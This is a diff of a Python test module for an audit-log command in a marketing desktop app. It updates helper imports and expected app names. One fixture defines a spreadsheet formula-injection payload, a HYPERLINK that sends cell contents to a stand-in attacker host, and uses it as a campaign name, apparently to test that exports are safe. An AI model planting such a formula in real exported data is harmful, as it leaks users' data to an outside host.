@@ -16,15 +16,16 @@ from engage_desktop.core.campaigns.model import CampaignDraft, Variant
 from engage_desktop.core.workspace import Workspace
 from engage_desktop.security.audit import record
 from engage_desktop.store.models import MemberRole, Role
-from tests.support.approval_seed import colleague, seed_app
+from tests.support.apps import colleague
+from tests.support.sending import seed_app
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
 
 
 def _history(ws: Workspace) -> tuple[str, int, int]:
     """Entries by two members on two apps, one campaign named like a spreadsheet formula."""
-    app_id = seed_app(ws, phones=0)
-    other_app = seed_app(ws, phones=0, name="Pixel Quest")
+    app_id = seed_app(ws, 0)
+    other_app = seed_app(ws, 0, project="pixel-quest")
     marketer = colleague(ws, "marion", Role.MARKETER, app_id)
     draft = CampaignDraft(
         app_id=app_id, name=EVIL, format="push", variants=(Variant("A", 1.0, {"title": "t"}),)
@@ -46,7 +47,7 @@ def test_list_filters_by_app_member_action_and_date(
     assert main(["audit", "list", "--json", "--workspace", path]) == 0
     everything = json.loads(capsys.readouterr().out)
     assert [e["action"] for e in everything] == ["member.add", "app.update", "campaign.create"]
-    assert everything[2]["member"] == "marion" and everything[2]["app"] == "Maison Lumière"
+    assert everything[2]["member"] == "marion" and everything[2]["app"] == "App demo-project"
     cases = {
         ("--app", str(app_id)): ["campaign.create"],
         ("--member", login): ["member.add", "app.update"],
